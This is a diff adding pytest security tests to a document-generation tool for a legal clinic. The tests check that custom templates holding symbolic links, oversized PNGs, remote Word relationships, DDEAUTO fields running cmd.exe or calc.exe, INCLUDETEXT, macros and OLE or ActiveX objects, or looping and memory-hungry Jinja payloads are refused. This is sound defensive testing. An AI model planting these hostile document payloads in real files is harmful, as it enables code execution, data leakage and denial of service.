@@ -442,6 +442,461 @@ def test_hostile_yaml_in_a_batch_folder_does_not_stop_the_batch(tmp_path):
     assert formula_cells(out / "batch-summary.csv") == []
 
 
+# ---------------------------------------------------------------- a clinic's template folder (finding 6 and the
+# custom-template findings: symbolic links, pictures, Word templates scrubbed, document properties, escapes)
+
+TEMPLATE_CASE = ROOT / "sample_cases" / "adult-prostitution.yaml"  # Brianna M. O'Neil, CLINIC-2026-0012
+TEMPLATE_CASE_ID = "CLINIC-2026-0012"
+SECRET = "SECRET-OTHER-CLIENT-4471"  # what a link would pull in; it must never reach a paper or a message
+W_NS = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
+R_EXTERNAL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
+
+
+def template_folder(tmp_path: Path, *names: str) -> Path:
+    """A clinic's folder holding copies of these built-in templates (plain files)."""
+    folder = tmp_path / "mine"
+    folder.mkdir()
+    for name in names:
+        shutil.copy(ROOT / "templates" / name, folder / name)
+    return folder
+
+
+def secret_file(tmp_path: Path, name: str = "other-client.txt") -> Path:
+    elsewhere = tmp_path / "elsewhere"
+    elsewhere.mkdir(exist_ok=True)
+    (elsewhere / name).write_text(f"<p>{SECRET}</p>\n", encoding="utf-8")
+    return elsewhere / name
+
+
+def generate_with(folder: Path, tmp_path: Path, *extra: str, case: Path = TEMPLATE_CASE,
+                  env: dict[str, str] | None = None) -> tuple[int, str, str, Path]:
+    private = tmp_path / "private-tmp"
+    private.mkdir(exist_ok=True)
+    out = tmp_path / "out"
+    code, stdout, stderr = run_env("generate", case, "--out", out, "--templates", folder, "--only", "proposed_order",
+                                   *extra, cwd=tmp_path, private_tmp=private, env=env or {})
+    assert "Traceback" not in stdout + stderr, stderr[-2000:]
+    assert SECRET not in stdout + stderr
+    assert list(private.iterdir()) == [], "the tool left temporary files behind"
+    return code, stdout, stderr, out
+
+
+def run_env(*args: str | Path, cwd: Path, private_tmp: Path, env: dict[str, str]) -> tuple[int, str, str]:
+    full = {**os.environ, "TMPDIR": str(private_tmp), "PYTHONDONTWRITEBYTECODE": "1", **env}
+    full.pop("CI", None)
+    result = subprocess.run([str(EXE), *map(str, args)], cwd=cwd, env=full, capture_output=True, timeout=600)
+    return result.returncode, result.stdout.decode("utf-8", "replace"), result.stderr.decode("utf-8", "replace")
+
+
+def refused_cleanly(code: int, stderr: str, out: Path, *fragments: str) -> None:
+    assert code == 1, stderr[-2000:]
+    for fragment in fragments:
+        assert fragment in stderr, stderr[-2000:]
+    assert not out.exists() or list(out.iterdir()) == [], "a refused render wrote something"
+
+
+def with_html(folder: Path, name: str, addition: str) -> None:
+    """Add markup just before </body> of a copied HTML template."""
+    path = folder / name
+    path.write_text(path.read_text(encoding="utf-8").replace("</body>", f"{addition}</body>"), encoding="utf-8")
+
+
+@pytest.mark.render
+@pytest.mark.parametrize("how", ["include", "linked-folder", "css-import", "stylesheet", "picture", "word"])
+def test_a_template_folder_never_follows_a_symbolic_link(tmp_path, how):
+    """Finding 6: `{% include 'leak.html' %}` with leak.html → a file elsewhere, a linked folder of other
+    clients' files, a linked packet.css, an @import or a picture through a link, a linked Word template."""
+    folder = template_folder(tmp_path, "proposed_order.html", "proposed_order.docx")
+    secret = secret_file(tmp_path)
+    fmt = "pdf"
+    if how == "include":
+        (folder / "leak.html").symlink_to(secret)
+        with_html(folder, "proposed_order.html", "{% include 'leak.html' %}")
+    elif how == "linked-folder":
+        (folder / "clients").symlink_to(secret.parent, target_is_directory=True)
+        with_html(folder, "proposed_order.html", f"{{% include 'clients/{secret.name}' %}}")
+    elif how == "css-import":
+        (secret.parent / "evil.css").write_text(f'body::after {{ content: "{SECRET}"; }}\n', encoding="utf-8")
+        (folder / "extra.css").symlink_to(secret.parent / "evil.css")
+        shutil.copy(ROOT / "templates" / "packet.css", folder / "packet.css")
+        css = folder / "packet.css"
+        css.write_text('@import "extra.css";\n' + css.read_text(encoding="utf-8"), encoding="utf-8")
+    elif how == "stylesheet":
+        (secret.parent / "packet.css").write_text((ROOT / "templates" / "packet.css").read_text(encoding="utf-8"),
+                                                  encoding="utf-8")
+        (folder / "packet.css").symlink_to(secret.parent / "packet.css")
+    elif how == "picture":
+        (secret.parent / "logo.png").write_bytes(png(4, 4))
+        (folder / "logo.png").symlink_to(secret.parent / "logo.png")
+        with_html(folder, "proposed_order.html", '<img src="logo.png" alt="logo">')
+    else:
+        shutil.copy(folder / "proposed_order.docx", secret.parent / "word.docx")
+        (folder / "proposed_order.docx").unlink()
+        (folder / "proposed_order.docx").symlink_to(secret.parent / "word.docx")
+        fmt = "docx"
+    code, _, stderr, out = generate_with(folder, tmp_path, "--format", fmt)
+    refused_cleanly(code, stderr, out, "is a symbolic link")
+
+
+@pytest.mark.render
+def test_templates_check_reports_symbolic_links(tmp_path):
+    folder = template_folder(tmp_path, "proposed_order.html")
+    (folder / "leak.html").symlink_to(secret_file(tmp_path))
+    (folder / "clients").symlink_to(tmp_path / "elsewhere", target_is_directory=True)
+    code, stdout, stderr = run("templates", "check", folder, cwd=tmp_path, private_tmp=tmp_path)
+    assert code == 1 and "Traceback" not in stderr
+    assert "leak.html (file): is a symbolic link" in stderr and "clients (file): is a symbolic link" in stderr
+    assert SECRET not in stdout + stderr
+
+
+def test_templates_export_never_writes_through_a_dangling_link(tmp_path):
+    destination = tmp_path / "mine"
+    destination.mkdir()
+    target = tmp_path / "outside" / "application_54_95c.docx"
+    target.parent.mkdir()
+    (destination / "application_54_95c.docx").symlink_to(target)  # dangling: `exists()` says False
+    code, stdout, stderr = run("templates", "export", destination, cwd=tmp_path, private_tmp=tmp_path)
+    assert code == 1 and "already holds application_54_95c.docx" in stderr
+    assert not target.exists() and sorted(p.name for p in destination.iterdir()) == ["application_54_95c.docx"]
+
+
+def test_templates_check_names_a_template_that_is_not_utf8(tmp_path):
+    folder = tmp_path / "mine"
+    folder.mkdir()
+    (folder / "proposed_order.html").write_bytes("<p>Café</p>\n<p>{{ case_id }}</p>\n".encode("latin-1"))
+    code, _, stderr = run("templates", "check", folder, cwd=tmp_path, private_tmp=tmp_path)
+    assert code == 1 and "Traceback" not in stderr
+    assert "proposed_order.html" in stderr and "line 1 is not UTF-8 text" in stderr
+
+
+# ---------------------------------------------------------------- pictures measured before decoding
+
+def png(width: int, height: int) -> bytes:
+    """A valid 1-bit greyscale PNG of that size, all black: 13,000² pixels compress to about 20 KB."""
+    import struct
+    import zlib
+
+    def chunk(kind: bytes, data: bytes) -> bytes:
+        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))
+
+    row = b"\x00" + b"\x00" * ((width + 7) // 8)
+    compressor = zlib.compressobj(9)
+    body = b"".join(compressor.compress(row) for _ in range(height)) + compressor.flush()
+    header = struct.pack(">IIBBBBB", width, height, 1, 0, 0, 0, 0)
+    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", body) + chunk(b"IEND", b"")
+
+
+@pytest.mark.render
+def test_a_huge_picture_is_refused_before_it_is_decoded(tmp_path):
+    folder = template_folder(tmp_path, "proposed_order.html")
+    picture = png(13_000, 13_000)
+    assert len(picture) < 40_000
+    (folder / "logo.png").write_bytes(picture)
+    with_html(folder, "proposed_order.html", '<img src="logo.png" alt="logo">')
+    code, _, stderr, out = generate_with(folder, tmp_path, "--format", "pdf")
+    refused_cleanly(code, stderr, out, "logo.png: the picture has 13000 × 13000 pixels, more than 40,000,000")
+
+
+@pytest.mark.render
+def test_a_small_picture_in_a_template_prints(tmp_path):
+    folder = template_folder(tmp_path, "proposed_order.html")
+    (folder / "logo.png").write_bytes(png(40, 20))
+    with_html(folder, "proposed_order.html", '<img src="logo.png" alt="logo">')
+    code, _, stderr, out = generate_with(folder, tmp_path, "--format", "pdf")
+    assert code == 0, stderr
+
+
+# ---------------------------------------------------------------- Word templates scrubbed, part by part
+
+def docx_parts(path: Path) -> dict[str, bytes]:
+    with zipfile.ZipFile(path) as archive:
+        return {name: archive.read(name) for name in archive.namelist()}
+
+
+def write_docx(path: Path, parts: dict[str, bytes]) -> None:
+    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
+        for name, data in parts.items():
+            archive.writestr(name, data)
+
+
+def add_relationship(parts: dict[str, bytes], rels: str, kind: str, target: str, external: bool = True) -> None:
+    mode = ' TargetMode="External"' if external else ""
+    text = parts[rels].decode("utf-8").replace(
+        "</Relationships>", f'<Relationship Id="rId99" Type="{R_EXTERNAL}/{kind}" Target="{target}"{mode}/>'
+                            "</Relationships>")
+    parts[rels] = text.encode("utf-8")
+
+
+def in_body(parts: dict[str, bytes], xml: str) -> None:
+    text = parts["word/document.xml"].decode("utf-8")
+    parts["word/document.xml"] = text.replace("<w:body>", f"<w:body>{xml}", 1).encode("utf-8")
+
+
+def hostile_docx(kind: str, parts: dict[str, bytes]) -> str:
+    """Plant one kind of remote or active content; returns the reason the check must give."""
+    rels = "word/_rels/document.xml.rels"
+    url = "http://203.0.113.9/Brianna-ONeil.png"  # the client's name in an address: never echoed
+    if kind == "external-image":
+        add_relationship(parts, rels, "image", url)
+        return "a relationship to something outside the file (image)"
+    if kind == "external-hyperlink":
+        add_relationship(parts, rels, "hyperlink", url)
+        return "a relationship to something outside the file (hyperlink)"
+    if kind == "attached-template":
+        add_relationship(parts, "word/_rels/settings.xml.rels" if "word/_rels/settings.xml.rels" in parts else rels,
+                         "attachedTemplate", "http://203.0.113.9/t.dotm")
+        text = parts["word/settings.xml"].decode("utf-8")
+        parts["word/settings.xml"] = text.replace("<w:zoom", '<w:attachedTemplate r:id="rId99"/><w:zoom').encode()
+        return "an attached template"
+    if kind == "altchunk":
+        add_relationship(parts, rels, "aFChunk", "chunk.mht", external=False)
+        parts["word/chunk.mht"] = b"MIME-Version: 1.0\r\n\r\n<html>{DDEAUTO c:\\\\windows\\\\calc.exe}</html>"
+        in_body(parts, '<w:altChunk r:id="rId99"/>')
+        return "an altChunk"
+    if kind == "dde-in-comments":
+        parts["word/comments.xml"] = (f'<w:comments {W_NS}><w:comment w:id="0"><w:p><w:fldSimple '
+                                      'w:instr="DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe"/></w:p></w:comment>'
+                                      '</w:comments>').encode()
+        return "a Word field DDEAUTO"
+    if kind == "complex-field":
+        in_body(parts, '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText> INCLUDETEXT '
+                       '"c:\\\\secret.txt" </w:instrText></w:r><w:r><w:fldChar w:fldCharType="separate"/></w:r>'
+                       '<w:r><w:t>x</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>')
+        return "a Word field INCLUDETEXT"
+    if kind == "strict-fldsimple":
+        parts["word/footer9.xml"] = ('<w:ftr xmlns:w="http://purl.oclc.org/ooxml/wordprocessingml/main"><w:p>'
+                                     '<w:fldSimple w:instr=" HYPERLINK &quot;http://203.0.113.9/&quot; "/>'
+                                     '</w:p></w:ftr>').encode()
+        return "a Word field HYPERLINK"
+    if kind == "vml-imagedata":
+        in_body(parts, '<w:p><w:r><w:pict><v:shape><v:imagedata src="http://203.0.113.9/Brianna-ONeil.png"/>'
+                       '</v:shape></w:pict></w:r></w:p>')
+        return "a VML picture with an address of its own"
+    if kind == "ole-object":
+        parts["word/embeddings/oleObject1.bin"] = b"\xd0\xcf\x11\xe0" + b"\x00" * 64
+        return "an embedded object (OLE)"
+    if kind == "macros":
+        parts["word/vbaProject.bin"] = b"\xd0\xcf\x11\xe0" + b"\x00" * 64
+        return "macros (a VBA project)"
+    if kind == "activex":
+        in_body(parts, '<w:p><w:r><w:object><w:control r:id="rId98"/></w:object></w:r></w:p>')
+        return "an ActiveX control"
+    if kind == "huge-picture":
+        parts["word/media/image9.png"] = png(13_000, 13_000)
+        return "the picture has 13000 × 13000 pixels"
+    if kind == "docxtpl-escape":
+        in_body(parts, "<w:p><w:r><w:t>{_{ petitioner.name }_}</w:t></w:r></w:p>")
+        return "docxtpl's {_{ … }_} escape"
+    raise AssertionError(kind)
+
+
+WORD_HOSTILE = ["external-image", "external-hyperlink", "attached-template", "altchunk", "dde-in-comments",
+                "complex-field", "strict-fldsimple", "vml-imagedata", "ole-object", "macros", "activex",
+                "huge-picture", "docxtpl-escape"]
+
+
+@pytest.mark.parametrize("kind", WORD_HOSTILE)
+def test_templates_check_refuses_remote_or_active_word_content(tmp_path, kind):
+    folder = template_folder(tmp_path, "proposed_order.docx")
+    parts = docx_parts(folder / "proposed_order.docx")
+    reason = hostile_docx(kind, parts)
+    write_docx(folder / "proposed_order.docx", parts)
+    code, stdout, stderr = run("templates", "check", folder, cwd=tmp_path, private_tmp=tmp_path)
+    assert code == 1 and "Traceback" not in stderr, stderr
+    assert "proposed_order.docx word/" in stderr and reason in stderr, stderr
+    assert "203.0.113.9" not in stdout + stderr and "ONeil" not in stdout + stderr
+
+
+@pytest.mark.render
+@pytest.mark.parametrize("kind", ["external-image", "dde-in-comments"])
+def test_generate_refuses_a_word_template_with_remote_or_active_content(tmp_path, kind):
+    folder = template_folder(tmp_path, "proposed_order.docx")
+    parts = docx_parts(folder / "proposed_order.docx")
+    reason = hostile_docx(kind, parts)
+    write_docx(folder / "proposed_order.docx", parts)
+    code, stdout, stderr, out = generate_with(folder, tmp_path, "--format", "docx")
+    refused_cleanly(code, stderr, out, "proposed_order.docx is refused: word/", reason)
+    assert "203.0.113.9" not in stdout + stderr
+
+
+def test_the_built_in_word_templates_pass_the_scrub():
+    from erasure_docs.render import wordscrub
+
+    for path in sorted((ROOT / "templates").glob("*.docx")):
+        assert wordscrub.findings(path.read_bytes()) == [], path.name
+
+
+@pytest.mark.render
+def test_document_properties_are_the_tools_never_the_templates(tmp_path):
+    """One juvenile petition carried the client's full name in dc:language: a template's properties (rendered by
+    docxtpl as templates) never reach a filing."""
+    folder = template_folder(tmp_path, "proposed_order.docx")
+    parts = docx_parts(folder / "proposed_order.docx")
+    core = parts["docProps/core.xml"].decode("utf-8")
+    core = core.replace("<cp:category/>", "<cp:category>{{ petitioner.name }}</cp:category>"
+                                          "<dc:language>{{ petitioner.name }}</dc:language>"
+                                          "<cp:contentStatus>Left from another client</cp:contentStatus>")
+    parts["docProps/core.xml"] = core.replace("<dc:title></dc:title>", "<dc:title>{{ petitioner.name }}</dc:title>"
+                                              ).encode("utf-8")
+    parts["docProps/app.xml"] = parts["docProps/app.xml"].replace(b"<Company/>", b"<Company>Other Client</Company>")
+    write_docx(folder / "proposed_order.docx", parts)
+    code, _, stderr, out = generate_with(folder, tmp_path, "--format", "docx")
+    assert code == 0, stderr
+    for document in (out / TEMPLATE_CASE_ID).rglob("proposed_order.docx"):
+        rendered = docx_parts(document)
+        properties = b"".join(data for name, data in rendered.items() if name.startswith("docProps/"))
+        assert b"Brianna" not in properties and b"O'Neil" not in properties and b"O&apos;Neil" not in properties
+        assert b"Other Client" not in properties and b"another client" not in properties
+        assert b"<dc:language>en</dc:language>" in rendered["docProps/core.xml"]
+        assert b"<dc:title>[Proposed] Order Vacating" in rendered["docProps/core.xml"]
+        assert sorted(n for n in rendered if n.startswith("docProps/")) == ["docProps/app.xml", "docProps/core.xml"]
+
+
+@pytest.mark.render
+def test_docxtpl_escapes_in_a_value_print_the_same_in_word_and_pdf(tmp_path):
+    """docxtpl turns `{_{` into `{{` in Word only: a value keeps its characters in both formats."""
+    data = yaml.safe_load(TEMPLATE_CASE.read_text(encoding="utf-8"))
+    for record in data["records"]:
+        for charge in record["charges"]:
+            charge["description"] = "{_{ 7*7 }_} {_% x %_}"
+    case = tmp_path / "case.yaml"
+    case.write_text(yaml.safe_dump(data, allow_unicode=True), encoding="utf-8")
+    out = tmp_path / "out"
+    code, _, stderr = run("generate", case, "--out", out, "--only", "application_54_95c", cwd=tmp_path,
+                          private_tmp=tmp_path)
+    assert code == 0, stderr
+    document = next((out / TEMPLATE_CASE_ID).rglob("application_54_95c.docx"))
+    for text in (docx_text(document), pdf_text(document.with_suffix(".pdf"))):
+        assert normalise("{_{ 7*7 }_} {_% x %_}") in normalise(text)
+        assert "{{ 7*7 }}" not in text
+
+
+@pytest.mark.render
+def test_extra_is_defined_in_templates(tmp_path):
+    """`extra` (free-form values of the case file) is documented for templates: it is in every context."""
+    data = yaml.safe_load(TEMPLATE_CASE.read_text(encoding="utf-8"))
+    data["extra"] = {"clinic_matter": "Matter 2026-77"}
+    case = tmp_path / "case.yaml"
+    case.write_text(yaml.safe_dump(data, allow_unicode=True), encoding="utf-8")
+    folder = template_folder(tmp_path, "proposed_order.html")
+    with_html(folder, "proposed_order.html", "<p>{{ extra.clinic_matter }} / {{ extra.get('absent', 'none') }}</p>")
+    code, _, stderr, out = generate_with(folder, tmp_path, "--format", "pdf", case=case)
+    assert code == 0, stderr
+    document = next((out / TEMPLATE_CASE_ID).rglob("proposed_order.pdf"))
+    assert "Matter 2026-77 / none" in pdf_text(document)
+
+
+def test_check_redact_never_writes_through_a_link_at_its_temporary_name(tmp_path):
+    out = tmp_path / "checked"
+    out.mkdir()
+    victim = tmp_path / "victim.txt"
+    victim.write_text("untouched", encoding="utf-8")
+    for name in (f".partial-{TEMPLATE_CASE_ID}.redacted.json", f".{TEMPLATE_CASE_ID}.redacted.json.tmp"):
+        (out / name).symlink_to(victim)
+    code, _, stderr = run("check", TEMPLATE_CASE, "--redact", "--out", out, cwd=tmp_path, private_tmp=tmp_path)
+    assert code == 0, stderr
+    assert victim.read_text(encoding="utf-8") == "untouched"
+    assert (out / f"{TEMPLATE_CASE_ID}.redacted.json").is_file()
+    assert not (out / f"{TEMPLATE_CASE_ID}.redacted.json").is_symlink()
+
+
+def test_weasyprint_starts_without_running_programs_or_writing_files(tmp_path):
+    """WeasyPrint's library search ran `ldconfig`/`gcc` (about 200 processes) and wrote temporary files at every
+    start; importing the PDF renderer must spawn nothing and write nothing."""
+    probe = (
+        "import os, subprocess, sys\n"
+        "spawned = []\n"
+        "real = subprocess.Popen.__init__\n"
+        "def spy(self, *a, **k):\n"
+        "    spawned.append(a[0] if a else k.get('args'))\n"
+        "    return real(self, *a, **k)\n"
+        "subprocess.Popen.__init__ = spy\n"
+        "os.posix_spawn = os.posix_spawnp = lambda *a, **k: spawned.append(a)\n"
+        "import erasure_docs.render.pdf\n"
+        "print('spawned', spawned)\n"
+    )
+    private = tmp_path / "tmp"
+    private.mkdir()
+    env = {**os.environ, "TMPDIR": str(private), "PYTHONDONTWRITEBYTECODE": "1"}
+    done = subprocess.run([sys.executable, "-c", probe], env=env, capture_output=True, text=True, cwd=tmp_path,
+                          timeout=300)
+    assert done.returncode == 0, done.stderr
+    assert "spawned []" in done.stdout, done.stdout
+    assert list(private.iterdir()) == []
+
+
+# ---------------------------------------------------------------- bounded work: time and memory limits
+
+LOOP_FOREVER = "{% for a in range(100000) %}{% for b in range(100000) %}{% endfor %}{% endfor %}"
+
+
+@pytest.mark.render
+def test_a_template_that_loops_forever_is_stopped_at_its_time_limit(tmp_path):
+    """No timed assertion: the template never ends, the limit is small, the error says what happened."""
+    folder = template_folder(tmp_path, "proposed_order.html")
+    with_html(folder, "proposed_order.html", LOOP_FOREVER)
+    code, _, stderr, out = generate_with(folder, tmp_path, "--format", "pdf",
+                                         env={"ERASURE_DOCS_TEMPLATE_SECONDS": "0.5"})
+    refused_cleanly(code, stderr, out, f"[{TEMPLATE_CASE_ID}] could not be rendered: the custom templates took "
+                                       "longer than", "ERASURE_DOCS_TEMPLATE_SECONDS")
+
+
+@pytest.mark.render
+@pytest.mark.parametrize("payload, memory", [("{{ 'x' * 2000000000 }}", None),
+                                             ("{% set ns = namespace(s='x') %}{% for i in range(40) %}"
+                                              "{% set ns.s = ns.s ~ ns.s %}{% endfor %}{{ ns.s | length }}", "200")])
+def test_a_template_that_needs_gigabytes_is_stopped_at_its_memory_limit(tmp_path, payload, memory):
+    folder = template_folder(tmp_path, "proposed_order.html")
+    with_html(folder, "proposed_order.html", payload)
+    env = {"ERASURE_DOCS_TEMPLATE_MEMORY_MB": memory} if memory else {}
+    code, _, stderr, out = generate_with(folder, tmp_path, "--format", "pdf", env=env)
+    refused_cleanly(code, stderr, out, f"needed more than {memory or 1024} MB of memory",
+                    "ERASURE_DOCS_TEMPLATE_MEMORY_MB")
+
+
+@pytest.mark.render
+def test_a_looping_template_fails_only_its_case_in_a_batch(tmp_path):
+    folder = template_folder(tmp_path, "proposed_order.html")
+    with_html(folder, "proposed_order.html", f"{{% if case_id == 'LOOP-1' %}}{LOOP_FOREVER}{{% endif %}}")
+    inputs = tmp_path / "cases"
+    inputs.mkdir()
+    data = yaml.safe_load(TEMPLATE_CASE.read_text(encoding="utf-8"))
+    for case_id in ("LOOP-1", "FINE-2"):
+        (inputs / f"{case_id}.yaml").write_text(yaml.safe_dump({**data, "case_id": case_id}, allow_unicode=True),
+                                                encoding="utf-8")
+    private = tmp_path / "private-tmp"
+    private.mkdir()
+    out = tmp_path / "out"
+    code, stdout, stderr = run_env("batch", inputs, "--out", out, "--templates", folder, "--workers", "1",
+                                   "--format", "pdf", cwd=tmp_path, private_tmp=private,
+                                   env={"ERASURE_DOCS_TEMPLATE_SECONDS": "5"})  # the other case must have time
+    assert "Traceback" not in stdout + stderr
+    assert code == 1, stderr
+    assert "1 produced, 1 failed" in stdout, stdout
+    assert sorted(p.name for p in out.iterdir() if p.is_dir()) == ["FINE-2"]
+    summary = (out / "batch-summary.csv").read_text(encoding="utf-8")
+    assert "took longer than" in summary
+    assert list(private.iterdir()) == [], "the tool left temporary files behind"
+
+
+@pytest.mark.render
+def test_templates_check_stops_a_looping_template(tmp_path):
+    folder = template_folder(tmp_path, "proposed_order.html")
+    with_html(folder, "proposed_order.html", LOOP_FOREVER)
+    code, _, stderr = run_env("templates", "check", folder, cwd=tmp_path, private_tmp=tmp_path,
+                              env={"ERASURE_DOCS_TEMPLATE_SECONDS": "0.5"})
+    assert code == 1 and "Traceback" not in stderr
+    assert "proposed_order.html (render): the custom templates took longer than" in stderr
+
+
+def test_a_limit_that_is_not_a_number_is_named(tmp_path):
+    folder = template_folder(tmp_path, "proposed_order.html")
+    code, _, stderr = run_env("templates", "check", folder, cwd=tmp_path, private_tmp=tmp_path,
+                              env={"ERASURE_DOCS_TEMPLATE_SECONDS": "soon"})
+    assert code != 0 and "Traceback" not in stderr
+    assert "ERASURE_DOCS_TEMPLATE_SECONDS must be a positive number" in stderr
+
+
 # ---------------------------------------------------------------- issue 18: input and batch findings
 
 def test_devices_and_fifos_are_refused_without_reading_them(tmp_path):
